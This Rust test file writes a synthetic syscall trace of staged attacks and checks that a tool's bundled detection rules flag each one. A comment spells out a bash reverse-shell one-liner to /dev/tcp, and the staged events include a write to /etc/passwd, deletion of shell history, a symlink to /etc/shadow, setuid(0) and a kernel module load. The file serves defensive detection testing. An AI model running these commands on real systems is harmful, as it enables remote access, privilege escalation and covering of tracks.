//! The bundled rules on a synthetic attack trace, built with hindsight's own scap writer.
//!
//! The Falco captures exercise only three bundled rules, so this trace stages one event per
//! attack the others look for: a reverse shell (`dup2` of a TCP socket onto stdin), a write
//! below /etc, shell history removal, ptrace attach, a symlink to /etc/shadow, a setuid bit,
//! a setuid(0) by a non-root user and a kernel module load. Each event is an enter/exit pair
//! with the parameters of the current scap event table, as a recorder writes them.

use std::path::Path;

use hindsight_format::header::{
    FdEntry, FdKind, FdTable, MachineInfo, ThreadEntry, TraceHeader, UserEntry,
};
use hindsight_format::writer::ScapWriter;
use hindsight_format::EventBuilder;

use super::{json_lines, replay, rule_events, stdout};
use crate::util::{run, sysdig_available};

const BASH: i64 = 100;
const EVIL: i64 = 200;
const AT_FDCWD: i64 = -100;
const T0: u64 = 1_700_000_000_000_000_000;

fn thread(tid: i64, ptid: i64, comm: &str, exepath: &str, uid: u32) -> ThreadEntry {
    ThreadEntry {
        tid,
        pid: tid,
        ptid,
        comm: comm.as_bytes().to_vec(),
        exe: comm.as_bytes().to_vec(),
        exepath: exepath.as_bytes().to_vec(),
        cwd: b"/root/".to_vec(),
        uid,
        gid: uid,
        vtid: tid,
        vpid: tid,
        loginuid: uid,
        ..ThreadEntry::default()
    }
}

fn user(uid: u32, name: &str) -> UserEntry {
    UserEntry {
        uid,
        gid: uid,
        name: name.as_bytes().to_vec(),
        home: format!("/home/{name}").into_bytes(),
        shell: b"/bin/bash".to_vec(),
    }
}

fn header() -> TraceHeader {
    TraceHeader {
        version: (1, 2),
        machine: Some(MachineInfo {
            num_cpus: 2,
            hostname: "lab".into(),
            ..MachineInfo::default()
        }),
        threads: vec![
            thread(1, 0, "systemd", "/usr/lib/systemd/systemd", 0),
            thread(BASH, 1, "bash", "/usr/bin/bash", 0),
            thread(EVIL, BASH, "evil", "/tmp/evil", 1000),
        ],
        fds: vec![FdTable {
            tid: BASH,
            fds: vec![FdEntry {
                fd: 3,
                ino: 0,
                kind: FdKind::Ipv4Socket {
                    sip: [10, 0, 0, 5],
                    dip: [10, 0, 0, 9],
                    sport: 40000,
                    dport: 4444,
                    l4proto: 2,
                },
                name: Vec::new(),
            }],
        }],
        users: vec![user(0, "root"), user(1000, "alice")],
        groups: Vec::new(),
        interfaces: Vec::new(),
    }
}

/// One syscall: its enter and exit records, built by the two closures.
struct Call {
    tid: i64,
    enter: u16,
    enter_params: fn(&mut EventBuilder),
    exit_params: fn(&mut EventBuilder),
}

fn calls() -> Vec<Call> {
    vec![
        // bash -i >& /dev/tcp/10.0.0.9/4444 0>&1: dup2(3, 0).
        Call {
            tid: BASH,
            enter: 362,
            enter_params: |b| {
                b.i64(3);
            },
            exit_params: |b| {
                b.i64(0).i64(3).i64(0);
            },
        },
        // open("/etc/passwd", O_WRONLY|O_TRUNC) = 4.
        Call {
            tid: BASH,
            enter: 306,
            enter_params: |b| {
                b.i64(AT_FDCWD).str(b"/etc/passwd").u32(0x102).u32(0);
            },
            exit_params: |b| {
                b.i64(4)
                    .i64(AT_FDCWD)
                    .str(b"/etc/passwd")
                    .u32(0x102)
                    .u32(0)
                    .u32(0x801)
                    .u64(1234);
            },
        },
        // unlinkat(AT_FDCWD, "/root/.bash_history", 0).
        Call {
            tid: BASH,
            enter: 302,
            enter_params: |_| {},
            exit_params: |b| {
                b.i64(0).i64(AT_FDCWD).str(b"/root/.bash_history").u32(0);
            },
        },
        // ptrace(PTRACE_ATTACH, 100).
        Call {
            tid: EVIL,
            enter: 168,
            enter_params: |b| {
                b.u16(0xb).i64(BASH);
            },
            exit_params: |b| {
                b.i64(0).raw(&[]).raw(&[]).u16(0xb).i64(BASH);
            },
        },
        // symlinkat("/etc/shadow", AT_FDCWD, "/tmp/sh").
        Call {
            tid: EVIL,
            enter: 180,
            enter_params: |_| {},
            exit_params: |b| {
                b.i64(0).str(b"/etc/shadow").i64(AT_FDCWD).str(b"/tmp/sh");
            },
        },
        // chmod("/tmp/evil", 04755).
        Call {
            tid: EVIL,
            enter: 314,
            enter_params: |_| {},
            exit_params: |b| {
                b.i64(0).str(b"/tmp/evil").u32(0o4755);
            },
        },
        // setuid(0) by uid 1000.
        Call {
            tid: EVIL,
            enter: 198,
            enter_params: |b| {
                b.u32(0);
            },
            exit_params: |b| {
                b.i64(0).u32(0);
            },
        },
        // finit_module(5, "", 0).
        Call {
            tid: EVIL,
            enter: 412,
            enter_params: |_| {},
            exit_params: |b| {
                b.i64(0).i64(5).str(b"").u32(0);
            },
        },
    ]
}

/// Writes the attack trace to `path`.
pub fn write_attack_trace(path: &Path) {
    let file = std::fs::File::create(path).unwrap();
    let mut w = ScapWriter::new(std::io::BufWriter::new(file), false);
    w.write_header(&header()).unwrap();
    let mut ts = T0;
    for call in calls() {
        for (ty, params) in [
            (call.enter, call.enter_params),
            (call.enter + 1, call.exit_params),
        ] {
            let mut b = EventBuilder::new(ty, ts, call.tid);
            params(&mut b);
            w.write_record(&b.build(), false, 0, 0).unwrap();
            ts += 1_000;
        }
    }
    w.finish().unwrap();
}

#[test]
fn bundled_rules_catch_each_staged_attack() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("attacks.scap");
    write_attack_trace(&path);
    let out = replay(&[path.to_str().unwrap(), "--format", "json"], 0);
    let alerts = json_lines(&out);
    let got: Vec<(String, u64)> = rule_events(&alerts);
    let want = [
        ("Reverse shell redirects standard streams to a socket", 2),
        ("Write below etc", 4),
        ("Shell history deleted or truncated", 6),
        ("Ptrace attach to another process", 8),
        ("Symlink to sensitive file", 10),
        ("Setuid or setgid bit set", 12),
        ("Setuid root transition by untrusted program", 14),
        ("Kernel module loaded", 16),
    ];
    let want: Vec<(String, u64)> = want.iter().map(|(r, n)| (r.to_string(), *n)).collect();
    assert_eq!(got, want, "{alerts:#?}");
    let priorities: Vec<&str> = alerts
        .iter()
        .map(|a| a["priority"].as_str().unwrap())
        .collect();
    assert_eq!(
        priorities,
        ["Critical", "Warning", "Error", "Critical", "Error", "Warning", "Error", "Critical"]
    );
    assert!(alerts.iter().all(|a| a["hostname"] == "lab"));
    // CI gates: a Critical fired, so --fail-on critical fails the run; tags select rules.
    replay(&[path.to_str().unwrap(), "--fail-on", "critical"], 3);
    let only = replay(
        &[
            path.to_str().unwrap(),
            "--format",
            "json",
            "-t",
            "T1055.008",
        ],
        0,
    );
    assert_eq!(
        rule_events(&json_lines(&only)),
        [("Ptrace attach to another process".to_string(), 8)]
    );
}

#[test]
fn staged_setuid_bit_renders_like_sysdig() {
    // The rule "Setuid or setgid bit set" matches `evt.arg.mode contains S_ISUID`, so a mode
    // must render with its bit names, as sysdig prints it: `04755(S_IXOTH|...|S_ISUID)`.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("attacks.scap");
    write_attack_trace(&path);
    let filter = "evt.type=chmod and evt.dir=<";
    let ours = run(&["print", path.to_str().unwrap(), filter, "-p", "%evt.args"]);
    assert_eq!(
        stdout(&ours),
        "res=0 filename=/tmp/evil \
         mode=04755(S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID) \n"
    );
    if !sysdig_available() {
        assert!(
            std::env::var_os("HINDSIGHT_SKIP_SYSDIG").is_some(),
            "sysdig is not installed (set HINDSIGHT_SKIP_SYSDIG=1 to skip)"
        );
        return;
    }
    let theirs = std::process::Command::new("sysdig")
        .args(["-r", path.to_str().unwrap(), "-p", "%evt.args", filter])
        .output()
        .unwrap();
    assert_eq!(stdout(&ours), stdout(&theirs));
}
